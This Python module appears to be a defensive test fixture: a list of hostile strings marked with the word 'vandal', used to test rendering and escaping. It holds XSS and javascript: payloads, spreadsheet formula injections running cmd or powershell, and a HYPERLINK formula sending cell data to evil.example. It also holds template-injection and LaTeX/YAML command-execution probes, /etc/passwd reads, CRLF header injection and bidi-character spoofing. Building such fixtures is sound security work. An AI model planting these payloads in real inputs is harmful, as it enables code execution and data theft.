"""What somebody writes who means harm. `owned()` is what their scripts call, where one runs."""

from __future__ import annotations

MARK = "vandal"
"""A word that is in each of these, so that it can be found again."""

TAGS = [
    "<script>owned('vandal')</script>",
    "\"><img src=x onerror=owned('vandal')>",
    "'><svg/onload=owned(`vandal`)>",
    "</title></textarea></style></script><iframe srcdoc='<b>vandal</b>'>",
    "<!-- vandal --!><a href=javascript:owned(1)>vandal</a> ]]><![CDATA[",
    "<math><mi//xlink:href='data:x,<script>owned(4)</script>'>vandal",
    "<template><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>vandal",
]
LINKS = [
    "[vandal](javascript:owned(2)) ![vandal](https://evil.example/x.png)",
    "[vandal](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+) <javascript:owned(3)>",
    "[vandal](JaVaScRiPt&colon;owned(5)) [vandal](\x01javascript:owned(6))",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"vandal")',
    "+1+cmd|' /C calc'!A0 vandal",
    "-2+3+cmd|' /C calc'!A0 vandal",
    "@SUM(1+9)*cmd|' /C calc'!A0 vandal",
    "=cmd|'/C powershell vandal'!A1",
    "＝1+1 vandal",
    "%0A-3 vandal",
]
TURNED = [
    "vandal \u202egnp.exe\u202c",
    "\u2067\u202dvandal\u2066 \u2068never ended",
    "\u200b\u2060v\u00adandal vandal\ufeff",
    "vandal\x00\x1b[31m\x07\x7f\x85",
    "v\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e vandal",
]
TEMPLATES = [
    "{{7*7}}{% for x in ().__class__ %}${7*7}<%= 7*7 %> vandal",
    "%s %n %(name)s {0} {name} {} {{}} vandal",
    '#eval("7*7") #read("/etc/passwd") $x^2$ #link("javascript:owned()")[vandal]',
    "\\input{/etc/passwd} \\write18{id} vandal",
    "!!python/object/apply:os.system ['id'] vandal",
    "vandal\r\nSet-Cookie: owned=1\r\n\r\n<html>",
    '../../vandal"; filename="x.exe\r\nX: y',
]
WORD = ["vandal" + "W" * 120]

HOSTILE = [*TAGS, *LINKS, *FORMULAS, *TURNED, *TEMPLATES, *WORD]

TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Signs that turn what is written after them, also what others wrote."""


def fitting(length: int) -> list[str]:
    return [text for text in HOSTILE if len(text) <= length]
